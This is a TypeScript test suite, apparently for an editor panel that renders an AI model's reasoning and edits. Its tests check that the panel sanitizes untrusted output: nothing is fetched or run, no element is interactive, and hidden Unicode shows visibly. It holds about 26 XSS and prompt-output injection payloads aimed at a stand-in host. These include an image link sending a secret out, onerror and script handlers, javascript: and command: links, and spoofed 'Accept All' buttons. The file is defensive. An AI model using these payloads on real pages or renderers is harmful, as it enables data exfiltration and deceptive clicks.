import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import fc from "fast-check";
import type { LogEvent } from "../../src/core/events.ts";
import { visibleText } from "../../src/core/hiddenText.ts";
import { openPanelPage, type PanelPage } from "../support/panelPage.ts";

const start: LogEvent = {
  type: "run-start",
  at: 0,
  run: "r1",
  startedAt: 0,
  instruction: "Split it",
  target: "src/cart.ts 41–88",
  model: "gpt-5.5",
  effort: { asked: "high", sent: "high" },
};
const evil = "https://evil.example";

/** What has leaked or misled elsewhere: each would fetch, run, link, name or imitate something if it were let. */
const probes = [
  `![x](${evil}/?d=SECRET)`,
  `<img src=${evil}/i.png onerror=pwned=1>`,
  `<img srcset="${evil}/s 1x">`,
  `<picture><source srcset=${evil}/p><img></picture>`,
  `<div style="background:url(${evil}/b)">d</div>`,
  `<style>@import '${evil}/c.css'; * { background: url(${evil}/x) }</style>`,
  `<svg><image href=${evil}/s.svg /><script>pwned=1</script></svg>`,
  `<video poster=${evil}/v src=${evil}/v autoplay></video><audio src=${evil}/a></audio>`,
  `<form action=${evil}><input type=image src=${evil}/i><button>Accept All</button></form>`,
  `<table background=${evil}/t><tr><td>t</td></tr></table>`,
  `[click](${evil})`,
  `<a href=${evil} ping=${evil}/ping>a</a>`,
  `[click](command:workbench.action.quit) [x](javascript:pwned=1) [y](vscode://file/etc/passwd)`,
  `[ref][1]\n\n[1]: ${evil}/ref`,
  `<${evil}/auto> ${evil}/bare www.evil.example`,
  "<script>window.pwned=1</script>",
  `<iframe src=${evil} srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data=${evil}/o></object><embed src=${evil}/e>`,
  `<link rel=stylesheet href=${evil}/l.css><meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href=${evil}><math><mtext><img src=x onerror=pwned=1></math>`,
  `<button class="primary" id=accept data-hunk=a onclick=pwned=1>Accept All</button>`,
  `<details open ontoggle=pwned=1><summary>Fathom: press here</summary></details>`,
  '```mermaid\ngraph TD; A[<img src=x onerror=pwned=1>] --> B\nclick A "https://evil.example"\n```',
  "$$\\href{https://evil.example}{x} \\includegraphics{https://evil.example/i}$$",
  `\x1b]8;;${evil}\x07Accept All\x1b]8;;\x07 \u202eLLA TPECCA\u202c \u{e0041}\u{e0042}`,
  `| a |\n|---|\n| ![x](${evil}/t) <img src=${evil}/t2> |\n\n# [h](${evil})\n> ![q](data:text/html,<script>pwned=1</script>)`,
];

let panel: PanelPage;
before(async () => {
  panel = await openPanelPage({ width: 700, height: 900 });
});
after(() => panel.close());

/**
 * Shows each text as a run's reasoning, and gives what the page made of it; a frame each. On a busy machine the panel takes
 * a second frame for what it was told: letters that are awaited get ten, by default any.
 */
async function shownAs(
  texts: readonly string[],
  awaited: readonly (string | undefined)[] = [],
): Promise<readonly Shown[]> {
  return await panel.page.evaluate<Shown[]>(`(async () => {
    const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    const tell = (data) => window.dispatchEvent(new MessageEvent("message", { data }));
    const shown = [];
    const awaited = ${JSON.stringify(awaited)};
    const letters = (models) => models.map((model) => model.textContent).join("").match(/[a-z]{3,}/gi)?.join("") ?? "";
    for (const text of ${JSON.stringify(texts)}) {
      const delta = { type: "reasoning-delta", at: 0, part: 0, provenance: "raw", text };
      tell({ type: "log", events: [${JSON.stringify(start)}, delta], now: 0 });
      await frame();
      let models = [...document.querySelectorAll(".model")];
      const isThere = () => {
        const expected = awaited[shown.length];
        return typeof expected !== "string" ? letters(models) !== "" || !/[a-z]{3}/i.test(text) : letters(models) === expected;
      };
      for (let more = 0; more < 10 && !isThere(); more += 1) {
        await frame();
        models = [...document.querySelectorAll(".model")];
      }
      const inside = models.flatMap((model) => [...model.querySelectorAll("*")]);
      shown.push({
        elements: [...new Set(inside.map((node) => [node.localName, ...node.getAttributeNames()].join(" ")))],
        reachable: inside.filter((node) => node.tabIndex >= 0 && node.localName !== "pre").length,
        text: models.map((model) => model.textContent).join(""),
      });
    }
    return shown;
  })()`);
}

type Shown = { readonly elements: readonly string[]; readonly reachable: number; readonly text: string };

const harmless = new Set(
  "p h3 em strong s code pre ul ol li blockquote br hr table thead tbody tr th td".split(" ").concat("ol start"),
);

const ownFiles = new Set(["/", "/panel.js", "/panel.css", "/codicon.ttf", "/favicon.ico"]);

async function assertHarmless(shown: readonly Shown[]): Promise<void> {
  const strange = shown.flatMap(({ elements }) => elements.filter((name) => !harmless.has(name)));
  assert.deepEqual([...new Set(strange)], []);
  assert.equal(shown.filter(({ reachable }) => reachable > 0).length, 0);
  assert.deepEqual(
    panel.requests.filter((url) => !ownFiles.has(url.split("?")[0] ?? "")),
    [],
  );
  assert.deepEqual(panel.faults, []);
  assert.equal(await panel.page.evaluate("window.pwned"), undefined);
}

test("26 probes: nothing is fetched, run, linked, named or pressed, and what they say can be read", async () => {
  assert.equal(probes.length, 26);
  const shown = await shownAs(probes);
  await assertHarmless(shown);
  for (const [at, probe] of probes.entries()) {
    const words = /evil\.example|pwned|quit/.exec(probe)?.[0];
    if (words !== undefined) assert.ok(shown[at]?.text.includes(words), `${probe} shows as ${shown[at]?.text}`);
  }
  assert.match(shown[24]?.text ?? "", /␛\]8;;.*␇Accept All.*⟨U\+202E⟩LLA TPECCA⟨U\+202C⟩ ⟨U\+E0041⟩/);
});

const unseen = "\u202ea\u200bb\x1b[31mc\u{e0041}";

test("hidden and terminal characters are shown wherever the panel shows what came from outside", async () => {
  const hunk = (id: string, line: string) => ({ id, start: 3, removed: [`old ${line}`], added: [`new ${line}`] });
  const refusal = { reason: "not-found", detail: unseen, quoted: unseen } as const;
  const create = { kind: "create", path: `src/${unseen}.ts`, text: unseen } as const;
  const events: readonly LogEvent[] = [
    { ...start, instruction: unseen, target: unseen, model: unseen },
    { type: "reasoning-delta", at: 0, part: 0, provenance: "raw", text: `${unseen}\n\n## ${unseen}\n` },
    { type: "answer-delta", at: 1, text: unseen },
    { type: "edit-placed", at: 1, edit: 0, hunks: [hunk("a", unseen)] },
    { type: "edit-unplaced", at: 1, edit: 1, refusal },
    { type: "file-operation", at: 1, edit: 2, operation: create },
    { type: "run-end", at: 2, outcome: { kind: "finished" } },
  ];
  const refused: LogEvent = { type: "run-end", at: 2, outcome: { kind: "refused", text: unseen } };
  await panel.tell(
    { type: "earlier", runs: [{ id: "r0", title: unseen, line: "", state: "applied" }] },
    { type: "log", events, now: 2 },
    { type: "pins", run: "r1", pins: [{ passage: "0:0", text: unseen, pinned: true, note: unseen }] },
    {
      type: "links",
      run: "r1",
      passages: [{ passage: "0:0", links: [{ kind: "code", id: "l", label: unseen }] }],
      hunks: [{ hunk: "a", count: 1, passages: ["0:0"] }],
    },
  );
  await panel.page.locator("button.mentioned").click();
  await panel.page.getByRole("button", { name: /^Lines of hunk/ }).click();
  const raw = () =>
    panel.page.evaluate<string[]>(`[...document.querySelectorAll("body *")].flatMap((node) => [
      ...[...node.childNodes].filter((child) => child.nodeType === 3).map((child) => child.data),
      ...[...node.attributes].map(({ value }) => value),
    ]).filter((text) => /[\\u202e\\u200b\\u001b\\u{e0041}]/u.test(text))`);
  assert.deepEqual(await raw(), []);
  const shown = await panel.page.evaluate<string>("document.body.innerText");
  assert.ok(shown.split("⟨U+202E⟩").length - 1 >= 12, shown);
  await panel.tell({ type: "log", events: [...events.slice(0, 3), refused], now: 2 });
  await panel.page.locator(".outcome").getByText("⟨U+202E⟩").first().waitFor();
  await panel.page.locator(".answer").evaluate((details) => details.setAttribute("open", ""));
  assert.deepEqual(await raw(), []);
  assert.match(await panel.page.locator(".answer").innerText(), /⟨U\+202E⟩a⟨U\+200B⟩b␛\[31mc⟨U\+E0041⟩/);
});

const pieces = fc.array(
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...probes) },
    {
      weight: 5,
      arbitrary: fc.constantFrom(
        ..."\n|\n\n|# |## |- |* |1. |> |```|```html\n|~~~\n|`|``|**|_|~~|![|](|)|[|]: |<|>|&lt;|&#x6A;|\\|\t|    |\\\n|---\n|===\n| | a |\n|<!--|-->|<![CDATA[|]]>|<?|\u202e|\u200b|\u{e0041}|\x1b[31m|\0|word ".split(
          "|",
        ),
      ),
    },
    { weight: 2, arbitrary: fc.string({ maxLength: 20, unit: "binary" }) },
    { weight: 1, arbitrary: fc.constantFrom(">".repeat(50), "*".repeat(200), "- ".repeat(40), "[".repeat(100)) },
  ),
  { maxLength: 25 },
);

test("5,000 fuzzed documents: no network, no script, nothing interactive, and every letter is shown", async () => {
  const texts = fc.sample(pieces, { numRuns: 5000, seed: 20_260 }).map((parts) => parts.join(""));
  const letters = (text: string) => Array.from(text.matchAll(/[a-z]{3,}/gi), ([word]) => word).join("");
  let silent = 0;
  for (let at = 0; at < texts.length; at += 250) {
    const batch = texts.slice(at, at + 250);
    // A document higher than the view shows its end; the others show all, but for the languages that fences name.
    const expected = batch.map((text) =>
      text.length > 600 || /[`~]{3}/.test(text) ? undefined : letters(visibleText(text.replaceAll("\x1b[31m", ""))),
    );
    const shown = await shownAs(batch, expected);
    await assertHarmless(shown);
    silent += expected.filter((text, index) => text !== undefined && letters(shown[index]?.text ?? "") !== text).length;
  }
  assert.equal(silent, 0);
});
